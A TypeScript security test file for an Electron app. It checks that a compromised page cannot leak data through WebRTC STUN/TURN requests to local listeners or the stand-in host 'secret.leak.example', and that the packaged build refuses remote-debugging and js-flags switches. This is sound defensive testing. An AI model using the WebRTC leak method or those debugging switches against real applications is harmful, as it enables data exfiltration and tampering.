import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { existsSync, linkSync, mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { _electron, type ElectronApplication, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { terminalRefused } from '../../main/base/platform/system/exit-codes.ts';
import { newFolder } from '../support/khatm.ts';

/* Tests that attacks by a compromised page, or by the person who starts the program, fail. */

const root = path.resolve(import.meta.dirname, '../..');
const dist = process.env.ELECTRON_OVERRIDE_DIST_PATH;

describe('a page that was taken over', () => {
  let app: ElectronApplication;
  let page: Page;
  /** The requests that the listeners received. */
  const came: string[] = [];
  const servers: { close(): unknown }[] = [];
  const addresses = Object.values(networkInterfaces())
    .flat()
    .filter((one) => one?.family === 'IPv4')
    .map((one) => one?.address ?? '');

  async function listen(address: string): Promise<{ udp: number; tcp: number }> {
    const udp = createSocket('udp4').on('message', () => came.push(`UDP at ${address}`));
    await new Promise<void>((resolve) => udp.bind(0, address, resolve));
    const tcp = createServer((socket) => {
      came.push(`TCP at ${address}`);
      socket.on('error', () => undefined);
    });
    await new Promise<void>((resolve) => tcp.listen(0, address, resolve));
    servers.push(udp, tcp);
    return { udp: udp.address().port, tcp: (tcp.address() as AddressInfo).port };
  }

  beforeAll(async () => {
    app = await _electron.launch({
      ...(dist !== undefined && { executablePath: path.join(dist, 'electron') }),
      args: [root, '--no-sandbox', '--lang=en-GB'],
      cwd: root,
      env: { ...process.env, KHATM_DATA: newFolder('electron-closed') } as Record<string, string>,
    });
    page = await app.firstWindow();
  });
  afterAll(async () => {
    await app?.close();
    for (const server of servers) server.close();
  });

  test('sends nothing out by WebRTC: no packet, no connection, not even a name', async () => {
    const netLog = path.join(newFolder('net-log'), 'log.json');
    await app.evaluate(({ session }, file) => session.defaultSession.netLog.startLogging(file), netLog);
    const urls: string[] = [];
    for (const address of addresses) {
      const { udp, tcp } = await listen(address);
      urls.push(`stun:${address}:${udp}`, `turn:${address}:${udp}?transport=udp`);
      urls.push(`turn:${address}:${tcp}?transport=tcp`, `turns:${address}:${tcp}?transport=tcp`);
    }
    for (const kind of ['stun:', 'turn:', 'turns:']) urls.push(`${kind}secret.leak.example:3478`);
    const gathered = await page.evaluate(async (iceServers) => {
      const connection = new RTCPeerConnection({
        iceServers: iceServers.map((url) => ({ urls: url, username: 'till', credential: 'secret' })),
      });
      connection.createDataChannel('out');
      const ended = new Promise((resolve) => {
        connection.onicegatheringstatechange = () =>
          connection.iceGatheringState === 'complete' && resolve('complete');
        setTimeout(resolve, 20_000, 'still trying');
      });
      await connection.setLocalDescription(await connection.createOffer());
      return ended;
    }, urls);
    await app.evaluate(({ session }) => session.defaultSession.netLog.stopLogging());
    expect(came, String(gathered)).toEqual([]);
    const log = readFileSync(netLog, 'utf8');
    expect(log).toContain('"logEventTypes"');
    expect(log).not.toContain('leak.example');
  });
});

describe.skipIf(dist === undefined)('the packaged program', () => {
  /** Returns a copy that Electron considers packaged, because of its file name. */
  function packaged(): string {
    const from = dist ?? '';
    const folder = path.join(from, '..', 'packaged-by-name');
    if (!existsSync(folder)) {
      mkdirSync(folder);
      for (const name of readdirSync(from))
        if (name !== 'electron') symlinkSync(path.join(from, name), path.join(folder, name));
      linkSync(path.join(from, 'electron'), path.join(folder, 'khatm'));
    }
    return path.join(folder, 'khatm');
  }

  test.each(['--remote-debugging-port=0', '--remote-debugging-pipe', '--js-flags=--expose-gc'])(
    'ends at once with %s, and says why',
    async (text) => {
      const data = newFolder('packaged');
      const { code, output } = await new Promise<{ code: unknown; output: string }>((resolve) => {
        execFile(
          packaged(),
          // The option is needed for tests as root, for whom Chromium's sandbox does not start; it is refused as well.
          [root, '--no-sandbox', text],
          { cwd: root, env: { ...process.env, KHATM_DATA: data }, timeout: 60_000 },
          (error, stdout, stderr) => resolve({ code: error?.code ?? 0, output: stdout + stderr }),
        );
      });
      expect(output).toContain(`does not start with these switches: --no-sandbox ${text}`);
      expect(output).not.toContain('DevTools listening');
      expect(code).toBe(terminalRefused);
      expect(existsSync(path.join(data, 'terminal.db'))).toBe(false);
    },
  );

  test('leaves no folder behind for a command that it refuses', async () => {
    const temporary = newFolder('packaged-temporary');
    const code = await new Promise((resolve) => {
      execFile(
        packaged(),
        [root, '--no-sandbox', '--js-flags=--expose-gc', '--', '--version'],
        {
          cwd: root,
          env: { ...process.env, KHATM_DATA: newFolder('packaged'), TMPDIR: temporary },
          timeout: 60_000,
        },
        (error) => resolve(error?.code ?? 0),
      );
    });
    expect(code).toBe(terminalRefused);
    expect(readdirSync(temporary).filter((name) => name.startsWith('khatm-'))).toEqual([]);
  });
});
